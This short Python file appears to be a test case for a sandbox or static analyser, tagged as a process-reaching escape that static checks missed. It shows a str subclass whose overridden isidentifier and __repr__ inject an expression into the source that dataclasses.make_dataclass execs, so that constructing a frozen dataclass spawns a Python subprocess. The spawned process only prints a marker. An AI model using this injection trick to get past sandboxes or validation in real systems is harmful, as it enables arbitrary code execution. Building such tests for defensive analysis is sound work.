# family: machinery
# reaches: process
# layer: static
# static: missed
# make_dataclass checks a field name with isinstance(name, str) and name.isidentifier(): a str
# subclass of the program passes both, and a frozen dataclass's generated __init__ pastes
# repr(name) into the source it execs (object.__setattr__(self, {name!r}, value)). The
# subclass's __repr__ returns a Python expression, run when Row(1) is made.
import dataclasses

SPAWN = "__import__('os').waitpid(__import__('os').posix_spawn('/usr/bin/python3', ['python3', '-c', 'print(\"reached: process\")'], {}), 0)"


class Column(str):
    """A column name that renders itself for generated code."""

    def isidentifier(self):
        return True

    def __repr__(self):
        return "(" + SPAWN + " and 'value')"


Row = dataclasses.make_dataclass("Row", [(Column("value"), int)], frozen=True)
print(Row(1))
